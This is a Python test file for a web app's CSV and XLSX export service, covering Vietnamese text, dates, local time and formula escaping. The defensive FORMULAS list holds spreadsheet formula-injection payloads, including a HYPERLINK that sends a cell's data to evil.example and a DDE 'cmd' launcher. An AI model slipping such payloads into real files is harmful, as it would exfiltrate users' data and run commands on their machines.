"""Lists as files: CSV opens in Excel with Vietnamese letters, XLSX keeps dates as dates."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from webapp.services import exports

pytestmark = pytest.mark.no_db
COLUMNS = [
    ("Họ tên", lambda r: r["name"]),
    ("Ngày sinh", lambda r: r["born"]),
    ("Lúc", lambda r: r["at"]),
    ("Ghi chú", lambda r: r["note"]),
]
ROWS = [
    {"name": "Nguyễn Thị Lân", "born": date(1990, 3, 9), "at": datetime(2026, 11, 23, 1, 30, tzinfo=UTC)},
    {"name": 'Trần "Ba", phố Hàng', "born": date(2001, 12, 31), "at": None, "note": "x\ny"},
]
for row in ROWS:
    row.setdefault("note", None)


def test_csv_has_a_bom_local_dates_and_quoted_cells():
    data = b"".join(exports.csv_chunks(COLUMNS, iter(ROWS)))
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["Họ tên", "Ngày sinh", "Lúc", "Ghi chú"]
    assert rows[1] == ["Nguyễn Thị Lân", "09/03/1990", "23/11/2026 08:30", ""]
    assert rows[2] == ['Trần "Ba", phố Hàng', "31/12/2001", "", "x\ny"]


def test_csv_streams_in_chunks_for_long_lists():
    many = ({"name": f"N{i}", "born": None, "at": None, "note": None} for i in range(1200))
    chunks = list(exports.csv_chunks(COLUMNS, many))
    assert len(chunks) >= 3
    assert b"".join(chunks).decode("utf-8-sig").count("\n") == 1201


def test_xlsx_keeps_types_in_local_time():
    with exports.xlsx_file(COLUMNS, ROWS) as f:
        values = list(load_workbook(f).active.iter_rows(values_only=True))
    assert values[0] == ("Họ tên", "Ngày sinh", "Lúc", "Ghi chú")
    assert values[1][0] == "Nguyễn Thị Lân"
    assert values[1][1].date() == date(1990, 3, 9)
    assert values[1][2] == datetime(2026, 11, 23, 8, 30)
    assert values[2][2] is None


# What a resident's note or name could hold (issue 12): a spreadsheet would run each as a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_that_would_run_as_formulas_are_neutralised(text):
    rows = [{"name": text, "born": None, "at": None, "note": text}]
    data = b"".join(exports.csv_chunks(COLUMNS, iter(rows))).decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(data)))[1]
    assert cells[0] == "'" + text and cells[3] == "'" + text


@pytest.mark.parametrize("text", FORMULAS)
def test_xlsx_text_cells_are_text_never_formulas(text):
    rows = [{"name": text, "born": date(1990, 3, 9), "at": None, "note": -5}]
    with exports.xlsx_file(COLUMNS, iter(rows)) as f:
        name, born, _at, note = load_workbook(f).active[2]
    assert name.data_type == "s" and name.value == "'" + text
    assert born.is_date and note.value == -5  # numbers and dates stay what they are


def test_ordinary_text_is_left_as_it_is():
    assert exports.neutral("Nguyễn Thị Lân") == "Nguyễn Thị Lân"
    assert exports.neutral("0912 345 678") == "0912 345 678"
    assert exports.neutral(-3) == -3


def test_xlsx_header_is_frozen_bold_and_columns_are_wide_enough():
    with exports.xlsx_file(COLUMNS, ROWS) as f:
        sheet = load_workbook(f).active
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1]) and not sheet["A2"].font.bold
    assert sheet.column_dimensions["A"].width >= 14


@pytest.mark.parametrize(("decimal", "shown"), [(",", "17,2"), (".", "17.2")])
def test_csv_decimals_use_the_page_languages_mark(decimal, shown):
    columns = [("Tỷ lệ đạt chỉ tiêu (%)", lambda r: r)]
    data = b"".join(exports.csv_chunks(columns, iter([17.2, 5]), decimal)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(data)))[1:] == [[shown], ["5"]]
